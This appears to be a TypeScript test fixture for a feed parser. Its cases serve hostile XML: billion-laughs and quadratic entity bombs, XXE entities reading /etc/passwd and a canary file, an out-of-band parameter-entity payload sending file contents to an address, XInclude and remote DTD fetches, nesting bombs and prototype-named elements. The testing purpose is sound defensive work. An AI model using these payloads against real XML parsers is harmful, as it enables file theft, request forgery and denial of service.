import { http, send } from './answers.ts'
import { type Asked, type Case, failed, gathered, type Listening } from './case.ts'

/** An XML document that the request decides: it names the canary that nobody may ask. */
const xml = (text: (asked: Asked) => string): Listening =>
  http((asked) => send(asked, { headers: { 'content-type': 'application/xml' }, body: text(asked) }))
const item = (body: string) =>
  `<rss version="2.0"><channel><title>T</title><item><guid isPermaLink="false">1</guid><title>Uno</title><description>Hola ${body}</description></item></channel></rss>`
const withDtd = (dtd: string, body: string) => `<?xml version="1.0"?><!DOCTYPE rss [${dtd}]>${item(body)}`
const laughs = Array.from({ length: 10 }, (_, level) =>
  level === 0 ? '<!ENTITY l0 "ja">' : `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`,
).join('')

export const entityCases: readonly Case[] = [
  {
    name: 'billion-laughs',
    serves: 'ten entities of ten entities each',
    on: xml(() => withDtd(laughs, '&l9;')),
    comes: gathered(1),
  },
  {
    name: 'billion-laughs-parameter',
    serves: 'the same with parameter entities',
    on: xml(() => withDtd('<!ENTITY % a "ja"><!ENTITY % b "%a;%a;"><!ENTITY c "%b;%b;">', '&c;')),
    comes: gathered(1),
  },
  {
    name: 'quadratic-blow-up',
    serves: 'one entity of 4 kB, used 100,000 times',
    on: xml(() => withDtd(`<!ENTITY a "${'a'.repeat(4000)}">`, '&a;'.repeat(100_000))),
    comes: gathered(1),
  },
  {
    name: 'xxe-file',
    serves: 'an entity that is a file of this computer',
    on: xml(({ canary }) => withDtd(`<!ENTITY x SYSTEM "${canary.file}">`, '&x;')),
    comes: gathered(1),
  },
  {
    name: 'xxe-passwd',
    serves: 'an entity that is /etc/passwd',
    on: xml(() => withDtd('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;')),
    comes: gathered(1),
  },
  {
    name: 'xxe-http',
    serves: 'an entity that is an address',
    on: xml(({ canary }) => withDtd(`<!ENTITY x SYSTEM "${canary.url('xxe')}">`, '&x;')),
    comes: gathered(1),
  },
  {
    name: 'xxe-public',
    serves: 'an entity with a public id and an address',
    on: xml(({ canary }) => withDtd(`<!ENTITY x PUBLIC "a" "${canary.url('public')}">`, '&x;')),
    comes: gathered(1),
  },
  {
    name: 'xxe-parameter',
    serves: 'a parameter entity that is fetched',
    on: xml(({ canary }) => withDtd(`<!ENTITY % x SYSTEM "${canary.url('parameter')}">%x;`, 'x')),
    comes: gathered(1),
  },
  {
    name: 'xxe-parameter-file',
    serves: 'a file smuggled out by way of an address',
    on: xml(({ canary }) =>
      withDtd(
        `<!ENTITY % f SYSTEM "${canary.file}"><!ENTITY % e "<!ENTITY &#x25; out SYSTEM '${canary.url('out')}?%f;'>">%e;%out;`,
        'x',
      ),
    ),
    comes: gathered(1),
  },
  {
    name: 'xxe-external-dtd',
    serves: 'a DTD that is fetched',
    on: xml(({ canary }) => `<?xml version="1.0"?><!DOCTYPE rss SYSTEM "${canary.url('dtd')}">${item('x')}`),
    comes: gathered(1),
  },
  {
    name: 'xxe-dtd-with-bracket',
    serves: 'a DTD that closes twice to be dropped by half',
    on: xml(
      ({ canary }) =>
        `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "]>"><!ENTITY x SYSTEM "${canary.file}">]>${item('&x;')}`,
    ),
    comes: gathered(1),
  },
  {
    name: 'xxe-two-doctypes',
    serves: 'a second DTD after the first',
    on: xml(
      ({ canary }) =>
        `<?xml version="1.0"?><!DOCTYPE rss><!DOCTYPE rss [<!ENTITY x SYSTEM "${canary.file}">]>${item('&x;')}`,
    ),
    comes: gathered(1),
  },
  {
    name: 'xxe-attribute',
    serves: 'an entity in an attribute',
    on: xml(({ canary }) =>
      withDtd(
        `<!ENTITY x SYSTEM "${canary.file}">`,
        '</description><link rel="&x;">https://place.example/1</link><description>',
      ),
    ),
    comes: gathered(1),
  },
  {
    name: 'xinclude-file',
    serves: 'an XInclude of a file',
    on: xml(({ canary }) =>
      item(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="${canary.file}"/>`),
    ),
    comes: gathered(1),
  },
  {
    name: 'xinclude-http',
    serves: 'an XInclude of an address',
    on: xml(({ canary }) =>
      item(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canary.url('xinclude')}"/>`),
    ),
    comes: gathered(1),
  },
  {
    name: 'xml-stylesheet',
    serves: 'a stylesheet to be fetched',
    on: xml(
      ({ canary }) =>
        `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary.url('xsl')}"?>${item('x')}`,
    ),
    comes: gathered(1),
  },
  {
    name: 'schema-location',
    serves: 'a schema to be fetched',
    on: xml(({ canary }) =>
      item('x').replace(
        '<rss ',
        `<rss xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${canary.url('xsd')}" `,
      ),
    ),
    comes: gathered(1),
  },
  {
    name: 'depth-500',
    serves: 'elements as deep as may just be',
    on: xml(() => item(`</description>${'<a>'.repeat(500)}${'</a>'.repeat(500)}<description>`)),
    comes: gathered(1),
  },
  {
    name: 'depth-600',
    serves: 'elements that nest 600 deep',
    on: xml(() => item(`</description>${'<a>'.repeat(600)}${'</a>'.repeat(600)}<description>`)),
    comes: failed('broken-document'),
  },
  {
    name: 'depth-100k',
    serves: 'elements that nest 100,000 deep',
    on: xml(() => item(`</description>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}<description>`)),
    comes: failed('broken-document'),
  },
  {
    name: 'depth-100k-open',
    serves: '100,000 elements that are never closed',
    on: xml(() => item(`</description>${'<a>'.repeat(100_000)}`)),
    comes: failed('broken-document'),
  },
  {
    name: 'html-depth-50k',
    serves: 'a text whose markup nests 50,000 deep',
    on: xml(() => item(`<![CDATA[${'<div>'.repeat(50_000)}x]]>`)),
    comes: gathered(1),
  },
  {
    name: 'comment-bomb',
    serves: 'two megabytes of comments, and one that never ends',
    on: xml(() => `${'<!-- x -->'.repeat(200_000)}${item('x')}<!-- `),
    comes: failed('not-a-feed'),
  },
  {
    name: 'comment-in-comment',
    serves: 'comments that seem to hold comments',
    on: xml(() => item(`x</description><!--${'<!--'.repeat(50_000)}--><description>`)),
    comes: gathered(1),
  },
  {
    name: 'cdata-never-ends',
    serves: 'a CDATA that never ends',
    on: xml(() => item(`<![CDATA[${'x'.repeat(100_000)}`)),
    comes: failed('broken-document'),
  },
  {
    name: 'character-references',
    serves: 'references to characters that are none',
    on: xml(() => item('&#0;&#xFFFFFFFF;&#xD800;&#99999999999;&nosuch;')),
    comes: gathered(1),
  },
  {
    name: 'quotes-never-close',
    serves: 'attributes whose quotes never close',
    on: xml(() => item(`</description><a b="${"<a b='".repeat(20_000)}<description>`)),
    comes: gathered(1),
  },
  {
    name: 'namespaces-odd',
    serves: 'a prefix bound to itself and to nothing',
    on: xml(() =>
      item('x').replace(
        '<rss ',
        '<rss xmlns:xml="urn:x" xmlns:a="" xmlns:__proto__="http://purl.org/dc/elements/1.1/" ',
      ),
    ),
    comes: gathered(1),
  },
  {
    name: 'names-of-objects',
    serves: 'elements called __proto__ and constructor',
    on: xml(() =>
      item('x').replace(
        '<guid',
        '<__proto__>a</__proto__><constructor>b</constructor><toString>c</toString><hasOwnProperty>d</hasOwnProperty><guid',
      ),
    ),
    comes: gathered(1),
  },
]
